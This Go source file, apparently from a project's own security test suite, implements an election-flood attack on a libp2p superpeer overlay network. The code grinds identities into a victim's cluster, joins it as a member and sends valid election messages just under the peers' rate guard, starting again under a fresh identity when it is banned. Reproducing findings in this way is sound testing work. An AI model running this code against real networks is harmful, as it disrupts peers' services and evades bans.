package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	"github.com/libp2p/go-libp2p/core/crypto"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"

	"github.com/superpeer/superpeer/classic"
	"github.com/superpeer/superpeer/classic/pb"
	"github.com/superpeer/superpeer/dhtselect"
	"github.com/superpeer/superpeer/gossip"
)

// The flood of election messages (issue 19, finding 1) is an attack of
// valid messages from a member: each is what an honest member may send,
// only too many. So Member and ElectionFlood encode them with the
// overlay's own encoders (gossip.SealAnnouncement, classic/pb), which are
// the wire format's definition, rather than by hand as Frame does for
// malformed frames; the register protocol's frames, whose encoders the
// overlay does not export, are written out in register.go.

// Member makes a hostile host a member of an overlay network's cluster
// (the DHT strategy's cluster-scoped membership): it finds the superpeer
// of the cluster its key falls in at the superpeers' k and registers
// with it every interval over the register protocol (Roster), with an
// announcement of its own, sealed by its own key, as an ordinary member
// at k. The superpeer takes it into the cluster's roster and hands it to
// the other members with their next registration, so it is in their
// views as an honest member is, and their election machines take its
// messages (they drop those of non-members). It runs no election of its
// own and answers nothing: whatever it sends is its attack's (see
// ElectionFlood).
type Member struct {
	roster *Roster
	cancel context.CancelFunc
	done   chan struct{}
}

// JoinAsMember starts registering h with the superpeer of its cluster on
// network every interval (the first time at once), announcing itself as
// a member at k (its cluster key follows from its ID, as the registry
// checks). Connect h to some of the network's nodes first: the superpeer
// is found by asking them (or after: it asks again every interval until
// one answers). Close stops it.
func JoinAsMember(ctx context.Context, h host.Host, network string, k int, interval time.Duration) (*Member, error) {
	if interval <= 0 || k < 0 || k > dhtselect.MaxK {
		return nil, fmt.Errorf("attack: JoinAsMember: interval %v, k %d: want an interval > 0 and k in [0, %d]", interval, k, dhtselect.MaxK)
	}
	rec, err := seal(h, gossip.Announcement{ID: h.ID(), Addrs: h.Addrs(), K: k, ClusterKey: dhtselect.KeyOf(h.ID()).Cluster(k),
		Seq: uint64(time.Now().UnixNano())})
	if err != nil {
		return nil, fmt.Errorf("attack: JoinAsMember: %w", err)
	}
	ctx, cancel := context.WithCancel(ctx)
	m := &Member{roster: newRoster(h, network, rec), cancel: cancel, done: make(chan struct{})}
	go func() {
		defer close(m.done)
		m.roster.run(ctx, interval)
	}()
	return m, nil
}

// Peers returns the members of h's cluster that its superpeer listed in
// the roster (the superpeer among them, h left out).
func (m *Member) Peers() []peer.ID {
	var out []peer.ID
	for _, e := range m.roster.Entries() {
		out = append(out, e.ID)
	}
	return out
}

// Roster is the member's registration: its superpeer, digest and roster.
func (m *Member) Roster() *Roster { return m.roster }

// Close stops registering (the superpeer drops the member after its
// TTL, as it does a member that went silent).
func (m *Member) Close() error {
	m.cancel()
	<-m.done
	return nil
}

// FloodStats counts an ElectionFlood's messages: Sent were written on an
// open stream, Refused found no stream (the target refused or reset it,
// or banned the attacker and closed the connection).
type FloodStats struct {
	Sent, Refused atomic.Uint64
}

// ElectionFlood sends every target the election message msg (To set to
// the target; From is the stream's, the attacker's authenticated ID)
// rate times a second, one stream each as the overlay's own election
// messages go, until ctx ends; the returned stats count them as they go,
// and wait blocks until the flood has stopped. With msg an ELECTION from
// a member of the targets' cluster ranked below them, it is issue 19's
// finding 1: at 45 a second it stays under a peer's guard (50 streams a
// second, a burst of 100), and each message is valid.
func ElectionFlood(ctx context.Context, h host.Host, network string, targets []peer.ID, rate float64, msg classic.Message) (stats *FloodStats, wait func()) {
	stats = &FloodStats{}
	proto := Protocol(network, "election")
	every := time.Duration(float64(time.Second) / rate)
	var wg sync.WaitGroup
	for _, to := range targets {
		m := msg
		m.To = classic.ID(to)
		data, err := pb.Marshal(m)
		if err != nil {
			stats.Refused.Add(1)
			continue
		}
		frame := append(binary.AppendUvarint(nil, uint64(len(data))), data...)
		wg.Add(1)
		go func() {
			defer wg.Done()
			t := time.NewTicker(every)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					return
				case <-t.C:
				}
				if sendElection(ctx, h, to, proto, frame) {
					stats.Sent.Add(1)
				} else {
					stats.Refused.Add(1)
				}
			}
		}()
	}
	return stats, wg.Wait
}

// sendElection writes one election frame on a new stream to p, within
// a second, and reports whether it went out.
func sendElection(ctx context.Context, h host.Host, p peer.ID, proto protocol.ID, frame []byte) bool {
	ctx, cancel := context.WithTimeout(ctx, time.Second)
	defer cancel()
	s, err := h.NewStream(ctx, p, proto)
	if err != nil {
		return false
	}
	_ = s.SetDeadline(time.Now().Add(time.Second))
	if _, err := s.Write(frame); err != nil {
		_ = s.Reset()
		return false
	}
	return s.Close() == nil
}

// ElectionFloodAttack is issue 19's finding 1 as an attack of the live
// suite (Attack.Run): it learns the victim's k from its superpeer's
// digest (victimK), grinds an identity in the victim's cluster ranked
// below it (its key shares the victim's k-bit prefix and is farther from
// the cluster key), becomes a member (JoinAsMember) and sends every node
// of the swarm ELECTION 45 times a second (the victim and its cluster's
// members take them; the others drop them, from a non-member). When the
// victim bans the identity it starts again under a fresh one, until ctx
// ends.
func ElectionFloodAttack(ctx context.Context, t Target) error {
	k, err := victimK(ctx, t)
	if err != nil {
		return err
	}
	vk := dhtselect.KeyOf(t.Victim.ID)
	cluster := vk.Cluster(k)
	var targets []peer.ID
	for _, n := range t.Nodes {
		targets = append(targets, n.ID)
	}
	for ctx.Err() == nil {
		priv, err := grind(func(key dhtselect.Key) bool {
			return key.Cluster(k) == cluster && dhtselect.Closer(vk, key, cluster)
		})
		if err != nil {
			return err
		}
		h, err := NewHost(libp2p.Identity(priv))
		if err != nil {
			return err
		}
		for _, n := range t.Nodes {
			_ = h.Connect(ctx, n)
		}
		m, err := JoinAsMember(ctx, h, t.Network, k, time.Second)
		if err == nil {
			fctx, stop := context.WithCancel(ctx)
			_, wait := ElectionFlood(fctx, h, t.Network, targets, 45, classic.Message{Type: classic.MsgElection})
			for fctx.Err() == nil && h.Network().Connectedness(t.Victim.ID) == network.Connected {
				select {
				case <-fctx.Done():
				case <-time.After(100 * time.Millisecond):
				}
			}
			stop()
			wait()
			_ = m.Close()
		}
		_ = h.Close()
		select {
		case <-ctx.Done():
		case <-time.After(100 * time.Millisecond):
		}
	}
	return nil
}

// victimK reads the victim's k from the digest of its cluster's
// superpeer, as any peer can: a register request with no record and no
// roster, which a superpeer answers with its digest (and no roster) and
// any other node with the superpeer it follows. It asks from a
// throwaway host connected to the swarm's nodes, again every 200 ms
// until one answers or ctx ends.
func victimK(ctx context.Context, t Target) (int, error) {
	h, err := NewHost()
	if err != nil {
		return 0, err
	}
	defer h.Close()
	for _, n := range t.Nodes {
		_ = h.Connect(ctx, n)
	}
	_ = h.Connect(ctx, t.Victim)
	for {
		d, err := superpeerDigest(ctx, h, t.Network, t.Victim.ID)
		if err == nil {
			return d.K, nil
		}
		select {
		case <-ctx.Done():
			return 0, fmt.Errorf("attack: no digest of the victim %s's cluster: %w (last: %w)", t.Victim.ID, ctx.Err(), err)
		case <-time.After(200 * time.Millisecond):
		}
	}
}

// superpeerDigest is the digest of p's cluster: p's own if it serves the
// cluster, else that of the superpeer it names. The digest must cover p.
func superpeerDigest(ctx context.Context, h host.Host, network string, p peer.ID) (Digest, error) {
	to := p
	for range 2 {
		rep, err := Register(ctx, h, to, network, RegisterRequest(0, 0, nil))
		switch {
		case err != nil:
			return Digest{}, err
		case rep.Status == RegNotSuperpeer && rep.Hint == "":
			return Digest{}, fmt.Errorf("attack: %s serves no cluster and follows no superpeer", to)
		case rep.Status == RegNotSuperpeer:
			to = rep.Hint
		case !rep.Digest.In(p):
			return Digest{}, fmt.Errorf("attack: %s serves the cluster %s at k = %d, which %s is not in", to, rep.Digest.ClusterKey, rep.Digest.K, p)
		default:
			return rep.Digest, nil
		}
	}
	return Digest{}, fmt.Errorf("attack: %s names %s as its superpeer, which serves no cluster", p, to)
}

// grind draws Ed25519 identities until one's Kademlia key satisfies ok
// (a million draws at most).
func grind(ok func(dhtselect.Key) bool) (crypto.PrivKey, error) {
	for range 1 << 20 {
		priv, _, err := crypto.GenerateEd25519Key(nil)
		if err != nil {
			return nil, err
		}
		id, err := peer.IDFromPrivateKey(priv)
		if err != nil {
			return nil, err
		}
		if ok(dhtselect.KeyOf(id)) {
			return priv, nil
		}
	}
	return nil, fmt.Errorf("attack: no identity found in a million draws")
}
